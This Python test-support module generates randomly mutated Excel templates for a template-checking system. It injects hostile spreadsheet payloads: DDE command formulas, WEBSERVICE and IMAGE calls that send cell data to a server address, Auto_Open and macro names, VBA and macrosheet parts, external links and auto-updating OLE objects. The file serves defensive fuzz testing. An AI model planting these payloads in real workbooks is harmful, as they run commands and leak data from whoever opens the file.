"""Excel templates armed at random at the level of parts, relationships, formulas and names; the same for one seed."""

from __future__ import annotations

import random
import re
from functools import cache
from xml.sax.saxutils import escape

from support.office_files import EXCEL_TYPE, OFFICE, SECRET, with_properties
from support.package_mutations import MODES, Change, Parts, address, arm, marked, relate, renamed, retyped, spelt
from support.template_judge import EVIL
from support.template_mutations import ROOT

BOOK, SHEET = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
FORMULAS = (
    'WEBSERVICE("@"&A1)',
    "cmd|'/c @'!A0",
    "'\\\\127.0.0.1\\[a.xlsx]S'!A1",
    'HYPERLINK("@","a")',
    "SUM(A1:A9)",
    "[1]S!$A$1",
    "1+1",
    'DDE("a","@","b")',
    "INDIRECT(A1)",
    "{{ title }}",
    '"{{ title }}"&WEBSERVICE("@")',
    '_xlfn.IMAGE("@")',
    "$A$1:$A$9",
    '"是,否"',
    "100",
    "brief_limit",
    "申报汇总表!$A$1",
    'EXEC("@")',
    'CALL("a")',
    "'[@]S'!A1",
)
NAMES = (
    "xl/externalLinks/externalLink1.xml",
    "xl/connections.xml",
    "xl/queryTables/queryTable1.xml",
    "xl/vbaProject.bin",
    "xl/macrosheets/sheet9.xml",
    "xl/dialogsheets/sheet9.xml",
    "xl/chartsheets/sheet9.xml",
    "xl/drawings/drawing1.xml",
    "xl/embeddings/oleObject1.bin",
    "xl/ctrlProps/ctrlProp1.xml",
    "xl/pivotTables/pivotTable1.xml",
    "xl/worksheets/sheet9.xml",
    "xl/tables/table1.xml",
    "xl/comments1.xml",
    "xl/drawings/vmlDrawing1.vml",
    "xl/printerSettings/printerSettings1.bin",
    "xl/calcChain.xml",
    "xl/media/a.png",
    "xl/cellimages.xml",
    "XL/workbook2.xml",
    "xl/metadata.xml",
    "customUI/customUI.xml",
)
TYPES_OF_PARTS = (
    f"{EXCEL_TYPE}externalLink+xml",
    f"{EXCEL_TYPE}connections+xml",
    "application/vnd.ms-excel.macrosheet+xml",
    f"{EXCEL_TYPE}worksheet+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    f"{EXCEL_TYPE}comments+xml",
    "application/vnd.openxmlformats-officedocument.drawing+xml",
    "application/vnd.ms-office.vbaProject",
    "application/xml",
    f"{EXCEL_TYPE}calcChain+xml",
    f"{EXCEL_TYPE}printerSettings",
    f"{EXCEL_TYPE}sheet.main+xml",
    "",
)
KINDS = (
    "externalLink",
    "externalLinkPath",
    "connections",
    "queryTable",
    "hyperlink",
    "image",
    "drawing",
    "oleObject",
    "worksheet",
    "control",
    "comments",
    "vmlDrawing",
    "printerSettings",
    "sheetMetadata",
    "pivotTable",
    "chartsheet",
    "dialogsheet",
    "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
    "styles",
    "sharedStrings",
    "customXml",
    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
)
# What may follow the cells of a sheet, in one place: readers do not ask for the schema's order.
ELEMENTS = (
    '<hyperlinks><hyperlink ref="K1" r:id="rIdE" tooltip="@"/></hyperlinks>',
    '<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="rIdE"/></hyperlinks>',
    '<hyperlinks><hyperlink ref="A1" location="@" display="a"/></hyperlinks>',
    '<hyperlinks><hyperlink ref="A1" r:id="rIdE"/></hyperlinks>',
    '<drawing r:id="rIdE"/>',
    '<legacyDrawing r:id="rIdE"/>',
    '<legacyDrawingHF r:id="rIdE"/>',
    '<picture r:id="rIdE"/>',
    '<oleObjects><oleObject progId="Excel.Sheet" r:id="rIdE" shapeId="1"/></oleObjects>',
    '<oleObjects><oleObject progId="a" link="@" shapeId="1" oleUpdate="OLEUPDATE_ALWAYS"/></oleObjects>',
    '<controls><control r:id="rIdE" shapeId="1"/></controls>',
    '<tableParts count="1"><tablePart r:id="rIdE"/></tableParts>',
    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>#</formula></cfRule>'
    "</conditionalFormatting>",
    '<conditionalFormatting sqref="A1"><cfRule type="duplicateValues" priority="1"/></conditionalFormatting>',
    '<dataValidations><dataValidation type="list" sqref="K9"><formula1>#</formula1></dataValidation></dataValidations>',
    "<headerFooter><oddHeader>&amp;G@</oddHeader></headerFooter>",
    "<headerFooter><oddHeader>{{ title }}</oddHeader></headerFooter>",
    '<extLst><ext uri="{A}"><x14:f xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">#</x14:f>'
    "</ext></extLst>",
    '<webPublishItems><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="@"/></webPublishItems>',
    '<customProperties><customPr name="a" r:id="rIdE"/></customProperties>',
    '<sheetProtection sheet="1" password="CC1A"/>',
    '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    '<mc:Choice Requires="x">'
    '<drawing r:id="rIdE"/></mc:Choice></mc:AlternateContent>',
    '<pageSetup orientation="landscape" r:id="rIdE"/>',
)
_OF_BOOK = (
    '<externalReferences><externalReference r:id="rIdE"/></externalReferences>',
    '<pivotCaches><pivotCache cacheId="1" r:id="rIdE"/></pivotCaches>',
    f'<fileSharing userName="{SECRET}" readOnlyRecommended="1"/>',
    '<functionGroups><functionGroup name="a"/></functionGroups>',
    '<fileRecoveryPr autoRecover="0"/>',
    f'<customWorkbookViews><customWorkbookView name="{SECRET}" guid="{{A}}"/></customWorkbookViews>',
    f'<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\\{SECRET}\\"/>',
)


def _formula(luck: random.Random, server: str) -> str:
    return escape(luck.choice(FORMULAS).replace("@", address(luck, server)))


def _cell(luck: random.Random, parts: Parts, server: str) -> None:
    kind = luck.choice(
        ("", ' t="shared" si="0" ref="K1:K9"', ' t="array" ref="K1"', ' t="dataTable" ref="K1" r1="A1"', ' ca="1"')
    )
    cell = luck.choice(
        (
            f'<c r="K4"><f{kind}>{_formula(luck, server)}</f><v>0</v></c>',
            f'<c r="K4" t="str"><f>{_formula(luck, server)}</f></c>',
            f'<c r="K4" t="inlineStr"><is><t>={_formula(luck, server)}</t></is></c>',
            f'<c r="K4" t="str"><v>={_formula(luck, server)}</v></c>',
        )
    )
    parts[SHEET] = re.sub(
        rb'(<row r="4".*?)(</row>)', lambda one: one[1] + cell.encode() + one[2], parts[SHEET], count=1
    )


def _name(luck: random.Random, parts: Parts, server: str) -> None:
    about = luck.choice(
        ("", ' hidden="1"', ' function="1" xlm="1"', ' macro="1"', ' comment="a"', ' vbProcedure="false"')
    )
    name = luck.choice(("a", "Auto_Open", "_xlnm.Auto_Open", "_xlnm._FilterDatabase", "_xlnm.Database", "evil"))
    defined = f'<definedName name="{name}"{about}>{_formula(luck, server)}</definedName></definedNames>'
    parts[BOOK] = parts[BOOK].replace(b"</definedNames>", defined.encode())


def _element(luck: random.Random, parts: Parts, server: str) -> None:
    mode = luck.choice(MODES)
    target = luck.choice((address(luck, server), "https://example.org/a", "mailto:a@example.org"))
    relate(parts, SHEET, "rIdE", luck.choice((*KINDS, "hyperlink", "hyperlink")), escape(target, {'"': "&quot;"}), mode)
    one = luck.choice(ELEMENTS).replace("@", escape(address(luck, server))).replace("#", _formula(luck, server))
    space = f' xmlns:r="{OFFICE.rstrip("/")}"'
    parts[SHEET] = parts[SHEET].replace(
        b"</sheetData>", b"</sheetData>" + re.sub(r"(<\w+)", rf"\1{space}", one, count=1).encode(), 1
    )


def _in_book(luck: random.Random, parts: Parts, server: str) -> None:
    relate(parts, BOOK, "rIdE", luck.choice(KINDS), escape(address(luck, server)), luck.choice(MODES))
    one, space = luck.choice(_OF_BOOK), f' xmlns:r="{OFFICE.rstrip("/")}"'
    armed = re.sub(r"(<[\w:]+)", lambda found: found[1] + space, one, count=1)
    parts[BOOK] = parts[BOOK].replace(b"<definedNames>", armed.encode() + b"<definedNames>", 1)


def _part(luck: random.Random, parts: Parts, _server: str) -> None:
    name = luck.choice(NAMES)
    parts[name] = luck.choice((f"<x>{EVIL}</x>".encode(), b"MZ" + EVIL.encode(), parts.get(SHEET, b"")))
    if luck.random() < 0.85:
        retyped(parts, name, luck.choice(TYPES_OF_PARTS))
    if luck.random() < 0.85:
        relate(parts, luck.choice((BOOK, SHEET, "")), "rIdN", luck.choice(KINDS), "/" + name, "")


def _type(luck: random.Random, parts: Parts, _server: str) -> None:
    found = re.findall(rb'ContentType="[^"]+"', parts["[Content_Types].xml"])
    new = f'ContentType="{luck.choice(TYPES_OF_PARTS)}"'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(luck.choice(found), new, 1)


CHANGES: tuple[Change, ...] = (
    _cell,
    _cell,
    _name,
    _name,
    _element,
    _element,
    _element,
    _in_book,
    _part,
    _type,
    renamed,
    spelt,
    marked,
)


@cache
def sound() -> bytes:
    """The workbook of Form 2 with all that Excel says of its user."""
    return with_properties((ROOT / "templates/form2/form2.xlsx").read_bytes())


def armed(seed: int, server: str) -> bytes:
    """The template after one to three changes."""
    return arm(seed, server, sound(), CHANGES)
